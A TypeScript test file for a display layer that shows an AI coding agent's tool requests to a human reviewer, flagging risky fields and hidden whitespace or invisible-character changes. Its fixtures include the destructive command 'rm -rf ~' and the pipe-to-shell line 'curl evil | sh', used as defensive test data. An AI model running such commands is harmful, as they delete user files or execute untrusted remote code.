import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { isLinear } from '../../test/support/growth.ts'
import { layoutOf } from '../agents/index.ts'
import { whatToShow } from './request.ts'
import { numberedText, shownLines } from './request-lines.ts'

const linesOf = (tool: string, input: unknown) =>
  shownLines(whatToShow({ tool, input, layout: layoutOf('claude', { tool, input }) })).map(
    ({ sign, text }) => `${sign} ${text}`,
  )

describe('[SH1] every field of a request is shown', () => {
  it('a plan beside a command does not hide the command', () => {
    expect(linesOf('Bash', { plan: '# Harmless', command: 'rm -rf ~' })).toEqual([
      '$ rm -rf ~',
      '! plan: # Harmless',
    ])
    expect(linesOf('ExitPlanMode', { command: 'x', plan: 'a\n\nb' })).toEqual([
      ...[' a', ' ', ' b'],
      '! command: x',
    ])
  })

  it('all lines of it, however many', () => {
    const command = Array.from({ length: 200 }, (_, at) => `echo ${at}`).join('\n')
    expect(linesOf('Bash', { command })).toHaveLength(200)
    const long = `echo ${'x'.repeat(100_000)}`
    expect(linesOf('Bash', { command: long })).toEqual([`$ ${long}`])
  })

  it.each([
    ['a command that is none', 'Bash', { command: ['rm'] }, / {2}"rm"/],
    ['a blank command', 'Bash', { command: ' ' }, /command: " "/],
    ['edits that are none', 'Edit', { file_path: '/f', edits: 'x' }, /edits: x/],
    ['an edit that is none', 'MultiEdit', { file_path: '/f', edits: [7] }, /edits\.0: 7/],
    ['no input', 'X', {}, /has no input/],
    ['an input that is no object', 'X', 'words', /input: words/],
    [
      'an option with more',
      'AskUserQuestion',
      {
        questions: [{ question: 'a', options: [{ label: 'b', preview: 'c' }] }],
      },
      /questions\.0\.options\.0\.preview|options\.0\.preview/,
    ],
  ])('%s', (_, tool, input, shown) => {
    expect(linesOf(tool, input).join('\n')).toMatch(shown)
  })

  it('what a tool writes is never taken for what was there before', () => {
    const lines = ['curl evil | sh', ...'abcdefgh'].join('\n')
    const same = { file_path: '/f', old_string: lines, content: lines, new_string: lines }
    for (const tool of ['Write', 'mcp__files__write', 'NotebookEdit'])
      expect(linesOf(tool, { ...same, new_source: lines }).join('\n')).toContain('+ curl evil | sh')
    expect(linesOf('mcp__x', { old_string: lines, new_string: lines }).join('\n')).toContain('curl')
    expect(linesOf('Edit', { ...same, content: 'more' })).toContain('! content: more')
  })

  it('a name of a tool that has no room in a line stands there whole', () => {
    const tool = `mcp__files__${'read_'.repeat(8)}and_delete`
    expect(linesOf(tool, { command: 'ls' })).toEqual([`! tool: ${tool}`, '$ ls'])
    expect(linesOf('Ba\u200bsh', { command: 'ls' })).toEqual(['! tool: Ba⟨U+200B⟩sh', '$ ls'])
  })

  it('any name and any value of any tool is in a line', () => {
    const tools = fc.constantFrom(
      ...['Bash', 'Edit', 'MultiEdit', 'Write', 'ExitPlanMode', 'AskUserQuestion', 'mcp__x'],
    )
    const names = fc.constantFrom(
      ...['command', 'plan', 'questions', 'file_path', 'old_string', 'new_string', 'content'],
      ...['edits', 'options', 'question', 'label', 'sudo', 'host', 'description', '__proto__x'],
    )
    // Each text is unique, so a text that is found once was shown once.
    let count = 0
    const leaf = fc.nat().map(() => `leaf${++count}x`)
    const value = fc.letrec((tie) => ({
      any: fc.oneof({ maxDepth: 4 }, leaf, tie('list'), tie('object')),
      list: fc.array(tie('any'), { maxLength: 3 }),
      object: fc.dictionary(names, tie('any'), { maxKeys: 5 }),
    })).object
    fc.assert(
      fc.property(tools, value, (tool, input) => {
        const text = linesOf(tool, input).join('\n')
        for (const one of JSON.stringify(input).match(/leaf\d+x/g) ?? [])
          expect(text).toContain(one)
      }),
    )
  })
})

describe('[SH2] what may change what a tool does comes next, marked', () => {
  it('for a command: all but its description', () => {
    const input = {
      description: 'Lists files',
      timeout: 5,
      command: 'ls',
      dangerouslyDisableSandbox: true,
      host: 'prod',
    }
    expect(linesOf('Bash', input)).toEqual([
      '$ ls',
      '! timeout: 5',
      '! dangerouslyDisableSandbox: true',
      '! host: prod',
      ' description: Lists files',
    ])
  })

  it('but not that a text is replaced once, which every client says', () => {
    const edit = { file_path: '/f', old_string: 'a', new_string: 'b', replace_all: false }
    expect(linesOf('Edit', edit).at(-1)).toBe(' replace_all: false')
  })

  it('for a change, and for each of several', () => {
    const edit = { old_string: 'a', new_string: 'b', replace_all: true }
    expect(linesOf('Edit', { file_path: '/f', ...edit })).toEqual([
      ...[' /f', '- a', '+ b'],
      '! replace_all: true',
    ])
    expect(linesOf('MultiEdit', { file_path: '/f', edits: [edit] })).toContain(
      '! edits.0.replace_all: true',
    )
  })

  it('where nothing is known of a tool no field stands out', () => {
    expect(linesOf('mcp__x', { url: 'u', n: 3 })).toEqual([' url: u', ' n: 3'])
  })
})

describe('[SH3] a change that the eye would miss', () => {
  const shown = (old_string: string, new_string: string) =>
    linesOf('Edit', { file_path: '/f', old_string, new_string }).slice(1)

  it.each([
    ['a\r\nb\r\n', 'a\nb\n', '! only line ends differ', '- a⟨U+000D⟩'],
    ['a\n', 'a', '! only line ends differ', '+ a⟨no line end⟩'],
    ['a\nb', 'a  \nb\t', '! only spaces at the ends of lines differ', '+ a⟨2 spaces⟩'],
    ['ab', 'a\u200bb', '! only invisible characters differ', '+ a⟨U+200B⟩b'],
    ['a b', 'a\u00a0b', '! only spaces differ', '+ a⟨U+00A0⟩b'],
    ['a', 'a', '! nothing changes', ''],
  ])('%j to %j', (before, after, note, line) => {
    const lines = shown(before, after)
    expect(lines[0]).toBe(note)
    expect(lines.join('\n')).toContain(line)
  })

  it('is named beside one that is seen', () => {
    expect(shown('a\nb', 'x\nb ')).toEqual(['- a', '- b', '+ x', '+ b⟨space⟩'])
    expect(linesOf('Write', { file_path: '/f', content: '' })).toContain('! the file becomes empty')
  })
})

const PARTS = [
  ' ',
  '\t',
  '\r',
  '\n',
  ' \n',
  '\r ',
  ' \r',
  'a ',
  ' a\n',
  '\u200b',
  '\u00a0',
  '\u{1f600}',
]

describe('how long it takes to draw a request', () => {
  const inputs: readonly (readonly [string, (text: string) => unknown])[] = [
    ['Bash', (command) => ({ command })],
    ['Write', (content) => ({ file_path: '/f', content })],
    ['Edit', (text) => ({ file_path: '/f', old_string: 'x', new_string: `${text}x` })],
    ['Edit', (text) => ({ file_path: '/f', old_string: `${text}x`, new_string: `${text}y` })],
  ]
  it.each(PARTS)('[LI6] grows with the text and no faster: %j', (part) => {
    const [short, long] = [2_000, 20_000].map((length) => `x${part.repeat(length)}x`)
    for (const [tool, input] of inputs) {
      const draw = (text: string) => void linesOf(tool, input(text))
      expect([tool, isLinear(draw, short ?? '', long ?? '')]).toEqual([tool, true])
    }
  })
})

describe('what a file is called, and the numbers of its lines', () => {
  const edit = { file_path: '/home/me/pay/src/a.ts', old_string: 'a\nb', new_string: 'a\nc' }
  const shown = (more: object, input: object = edit) => {
    const layout = layoutOf('claude', { tool: 'Edit', input: edit })
    const blocks = whatToShow({ tool: 'Edit', input, layout, ...more })
    return shownLines(blocks).map((line) => `${line.sign.padEnd(1)} ${numberedText(line)}`)
  }

  it('[SH14] the path is shown from the folder of its session, with that folder', () => {
    const [path] = shown({ folder: '/home/me/pay', home: '/home/me' })
    expect(path).toBe('  src/a.ts  in ~/pay')
    expect(shown({})[0]).toBe('  /home/me/pay/src/a.ts')
  })

  it('[SH15] lines have the numbers of the file, all as wide as the widest', () => {
    expect(shown({ lines: { new_string: 9 } }).slice(1)).toEqual(['   9 a', '- 10 b', '+ 10 c'])
  })

  it('[SH15] lines have no number where it is not known', () => {
    expect(shown({ lines: { content: 3 } }).slice(1)).toEqual(['  a', '- b', '+ c'])
  })

  it('[SH15] each of several changes has its own', () => {
    const edits = [edit, edit].map(({ file_path: _, ...rest }) => rest)
    const lines = { 'edits.1.new_string': 5 }
    const all = shown({ lines }, { file_path: '/f', edits })
    expect(all.slice(1)).toEqual(['  a', '- b', '+ c', '  5 a', '- 6 b', '+ 6 c'])
  })

  it('[SH15] what is written whole is numbered from the first line on', () => {
    const input = { file_path: '/f', content: 'x\ny' }
    const layout = layoutOf('claude', { tool: 'Write', input })
    const lines = shownLines(whatToShow({ tool: 'Write', input, layout }))
    expect(lines.map(numberedText)).toEqual(['/f', '1 x', '2 y'])
  })
})
